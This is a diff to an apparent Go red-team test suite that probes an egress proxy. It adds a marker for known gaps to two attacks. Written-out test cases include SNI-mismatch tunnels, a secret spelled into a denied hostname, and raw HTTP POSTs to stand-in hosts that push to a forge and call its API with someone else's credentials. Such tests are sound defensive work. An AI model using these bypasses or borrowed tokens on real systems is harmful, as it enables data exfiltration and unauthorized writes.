@@ -83,6 +83,10 @@ func proxyAttacks() []Attack {
 		}
 		return Attack{ID: "proxy-" + id, In: "inside", Wall: wallProxy, Tries: tries, Script: script, Seen: seen}
 	}
+	known := func(a Attack) Attack {
+		a.Known = "the forge may be read, and in a tunnel nobody can tell reading from writing; it takes a token of somebody else's"
+		return a
+	}
 	// Where an allowed host answers first, only what the canary saw counts.
 	const byCanary = `; [ -n "$RT_CONTROL" ]`
 	return []Attack{
@@ -124,8 +128,8 @@ func proxyAttacks() []Attack {
 		through("sni", "a tunnel to an allowed host, with another name in TLS", `$RT via sni allowed.redteam.test:443 proxy-sni.evil.redteam.test 45.66.77.81:443`+byCanary, at("tcp 45.66.77.81:443", "proxy-sni.evil")),
 		through("name-leak", "spell a secret in the name of a denied host", `$RT via connect proxy-name-leak.evil.redteam.test:443`+byCanary, asked("proxy-name-leak.evil")),
 		through("ftp", "another scheme than http", `$RT via raw 'GET ftp://evil.redteam.test:80/ HTTP/1.1\r\nHost: evil.redteam.test\r\nX-RT: {mark}\r\nConnection: close\r\n\r\n' evil.redteam.test:80`),
-		through("push", "push to the forge with somebody else's password", `$RT via raw 'POST http://forge.redteam.test/octo/{run}.git/git-receive-pack HTTP/1.1\r\nHost: forge.redteam.test\r\nAuthorization: Basic cnRwdXNo\r\nContent-Length: 4\r\nConnection: close\r\n\r\n0000' forge.redteam.test:80`+byCanary, forgeGot("/git-receive-pack", "Basic cnRwdXNo")),
-		through("api", "write a comment by the forge's API with somebody else's token", `$RT via raw 'POST http://forge.redteam.test/api/v3/repos/octo/{run}/issues HTTP/1.1\r\nHost: forge.redteam.test\r\nAuthorization: token rtapi\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' forge.redteam.test:80`+byCanary, forgeGot("/issues", "token rtapi")),
+		known(through("push", "push to the forge with somebody else's password", `$RT via raw 'POST http://forge.redteam.test/octo/{run}.git/git-receive-pack HTTP/1.1\r\nHost: forge.redteam.test\r\nAuthorization: Basic cnRwdXNo\r\nContent-Length: 4\r\nConnection: close\r\n\r\n0000' forge.redteam.test:80`+byCanary, forgeGot("/git-receive-pack", "Basic cnRwdXNo"))),
+		known(through("api", "write a comment by the forge's API with somebody else's token", `$RT via raw 'POST http://forge.redteam.test/api/v3/repos/octo/{run}/issues HTTP/1.1\r\nHost: forge.redteam.test\r\nAuthorization: token rtapi\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' forge.redteam.test:80`+byCanary, forgeGot("/issues", "token rtapi"))),
 	}
 }
 
